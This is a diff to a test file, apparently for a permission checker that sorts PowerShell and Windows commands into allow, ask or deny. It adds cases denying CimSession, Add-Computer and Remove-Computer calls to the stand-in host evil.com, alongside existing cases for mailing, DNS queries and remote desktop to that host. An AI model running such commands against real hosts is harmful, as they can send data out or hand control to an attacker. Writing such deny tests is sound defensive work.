@@ -224,6 +224,10 @@ describe('hosts the network cmdlets and Windows tools reach, and the server of a
     ['Get-Service -ComputerName evil.com', 'deny'],
     ['Send-MailMessage -SmtpServer evil.com -To a@b.c -From a@b.c -Subject x', 'deny'],
     ['Resolve-DnsName x -Server evil.com', 'deny'],
+    // -CimSession takes a computer name; Add-/Remove-Computer contact the domain (hunt 9, F6: were allowed).
+    ['Get-NetAdapter -CimSession evil.com', 'deny'], ['Get-Disk -CimSession:evil.com', 'deny'], ['Get-ScheduledTask -CimS evil.com', 'deny'],
+    ['Get-CimInstance Win32_OS -CimSession evil.com', 'deny'], ['Get-Disk -CimSession $s', 'ask'], ['Get-NetAdapter -CimSession server1', 'allow'],
+    ['Add-Computer -DomainName evil.com', 'deny'], ['Remove-Computer -DN evil.com', 'deny'], ['Add-Computer -DomainName corp.example', 'allow'],
     ['mstsc /v:evil.com', 'deny'],
     ['mstsc /v:evil.com:3389', 'deny'],
     ['Test-Connection $h', 'ask'],
